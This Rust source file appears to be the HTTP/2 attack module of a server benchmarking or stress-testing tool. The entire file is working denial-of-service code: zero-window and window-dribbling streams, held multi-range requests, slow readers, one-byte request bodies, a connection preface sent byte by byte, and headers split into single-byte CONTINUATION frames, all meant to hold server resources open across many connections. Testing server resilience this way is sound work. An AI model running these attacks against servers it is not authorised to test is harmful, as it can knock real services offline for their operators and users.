//! Connections that are held, with streams that wait for their client.

use std::io::{self, ErrorKind};

use ringway_bench_h2::frame::{self, MAX_WINDOW, PREFACE, WINDOW, flag, kind, put, setting};

use super::{Http2, again, asking, get};
use crate::attacks::hold::hold;
use crate::pacer::Signals;
use crate::site::{LARGE, MIDDLING, PAGE};
use crate::target::Target;

pub(super) fn dribble(target: &Target, signals: &Signals) {
    let block = get(LARGE.0);
    again(target, signals, 100.0, &[(setting::INITIAL_WINDOW_SIZE, 0)], |http2, out| {
        if http2.next == 1 {
            frame::put_window_update(out, 0, MAX_WINDOW - WINDOW);
            for _ in 0..100 {
                http2.head(out, &block, flag::END_STREAM);
            }
        }
        (0..100).for_each(|number| frame::put_window_update(out, 2 * number + 1, 1));
        100
    });
}

/// A connection with so many streams that ask by this block, with this much of a window.
fn asked(
    target: &Target,
    (block, flags, streams): (&[u8], u8, usize),
    (settings, window): (&[(u16, u32)], u32),
) -> io::Result<Http2> {
    let mut http2 = Http2::open(target, settings)?;
    let mut out = Vec::new();
    if window > 0 {
        frame::put_window_update(&mut out, 0, window);
    }
    for _ in 0..streams {
        http2.head(&mut out, block, flags);
    }
    http2.tls.send(&out)?;
    http2.tls.socket.set_nonblocking(true)?;
    Ok(http2)
}

fn read_some(http2: &mut Http2) -> io::Result<()> {
    match http2.tls.read(&mut [0; 1000])? {
        0 => Err(ErrorKind::UnexpectedEof.into()),
        _ => Ok(()),
    }
}

/// Passes over what the server has sent. An error if it has ended the connection.
fn read_all(http2: &mut Http2) -> io::Result<()> {
    loop {
        match read_some(http2) {
            Ok(()) => {}
            Err(error) if error.kind() == ErrorKind::WouldBlock => return Ok(()),
            Err(error) => return Err(error),
        }
    }
}

const SHUT: [(u16, u32); 1] = [(setting::INITIAL_WINDOW_SIZE, 0)];

pub(super) fn zero_windows(target: &Target, signals: &Signals) {
    let block = get(LARGE.0);
    let open = || asked(target, (&block, flag::END_STREAM, 100), (&SHUT, 0));
    hold(signals, 100, 10.0, open, read_some);
}

/// What stands between the parts is memory of the server, where a file's content is not.
pub(super) fn held_answers(target: &Target, signals: &Signals) {
    let parts = [("range", "bytes=0-0,9-9,20-29,100-200")];
    let block = asking("GET", &format!("/{}", MIDDLING.0), &parts);
    let open = || asked(target, (&block, flag::END_STREAM, 100), (&SHUT, 0));
    hold(signals, 100, 10.0, open, read_some);
}

pub(super) fn slow_readers(target: &Target, signals: &Signals) {
    let block = get(LARGE.0);
    let wide = [(setting::INITIAL_WINDOW_SIZE, MAX_WINDOW)];
    let open = || asked(target, (&block, flag::END_STREAM, 10), (&wide, MAX_WINDOW - WINDOW));
    hold(signals, 200, 10.0, open, read_some);
}

pub(super) fn slow_bodies(target: &Target, signals: &Signals) {
    let block = asking("POST", "/", &[("content-length", "60000")]);
    let open = || asked(target, (&block, 0, 100), (&[], 0));
    let mut byte = Vec::new();
    put(&mut byte, kind::DATA, 0, 1, b"x");
    hold(signals, 100, 1.0, open, |http2| {
        read_all(http2)?;
        http2.tls.send(&byte)
    });
}

/// Sends the next of these on a connection. The last one is never sent.
fn next(connection: &mut (Http2, std::vec::IntoIter<Vec<u8>>)) -> io::Result<()> {
    let (http2, pieces) = connection;
    read_all(http2)?;
    match pieces.as_slice() {
        [_, _, ..] => pieces.next().map_or(Ok(()), |piece| http2.tls.send(&piece)),
        _ => Ok(()),
    }
}

pub(super) fn slow_prefaces(target: &Target, signals: &Signals) {
    let open = || {
        let tls = target.http2()?;
        tls.socket.set_nonblocking(true)?;
        let bytes: Vec<Vec<u8>> = PREFACE.iter().map(|byte| vec![*byte]).collect();
        Ok((Http2 { tls, next: 1 }, bytes.into_iter()))
    };
    hold(signals, 500, 1.0, open, next);
}

pub(super) fn slow_heads(target: &Target, signals: &Signals) {
    let block = get(PAGE.0);
    let open = || {
        let pieces: Vec<_> = block
            .iter()
            .enumerate()
            .map(|(at, byte)| {
                let kind = if at == 0 { kind::HEADERS } else { kind::CONTINUATION };
                let flags = if at == 0 { flag::END_STREAM } else { 0 };
                let mut out = Vec::new();
                put(&mut out, kind, flags, 1, &[*byte]);
                out
            })
            .collect();
        Ok((asked(target, (&block, 0, 0), (&[], 0))?, pieces.into_iter()))
    };
    hold(signals, 500, 1.0, open, next);
}
